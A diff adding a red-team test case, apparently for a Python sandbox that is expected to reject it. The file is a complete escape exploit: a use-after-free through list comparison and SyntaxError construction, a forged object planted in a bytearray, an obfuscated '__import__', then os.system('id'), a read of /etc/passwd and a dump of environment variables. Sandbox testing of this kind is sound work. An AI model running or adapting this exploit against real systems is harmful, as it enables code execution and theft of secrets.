@@ -1,0 +1,67 @@
+# expect: reject memory
+# line: 46
+# why: round 104 (red team): a program subclass of SyntaxError without a constructor of its own runs SyntaxError's, which makes a tuple of its second argument (a ChainMap over a kept map): its arguments are judged as the builtin's
+vl = []
+KEEP = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+def g():
+    return 0
+
+
+FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
+        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]
+
+
+def wipe(*a):
+    vl.clear()
+    return 0
+
+import collections
+
+
+def wipe2(x):
+    vl.clear()
+    return x
+
+
+CA = collections.ChainMap(map(wipe2, [1, 2, 3, 4]))
+
+
+class SE(SyntaxError):
+    pass
+
+
+class V:
+    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")
+
+    def __eq__(self, o):
+        return False
+
+    def __lt__(self, o):
+        n = SE("x", CA)
+        return NotImplemented
+
+
+class W:
+    def __eq__(self, o):
+        return False
+
+    def __gt__(self, o):
+        return o
+
+
+vl.append(V())
+w = W()
+got = vl < [w]
+KEEP.append(bytearray(FAKE))
+bt = got[1]
+imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(bt["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
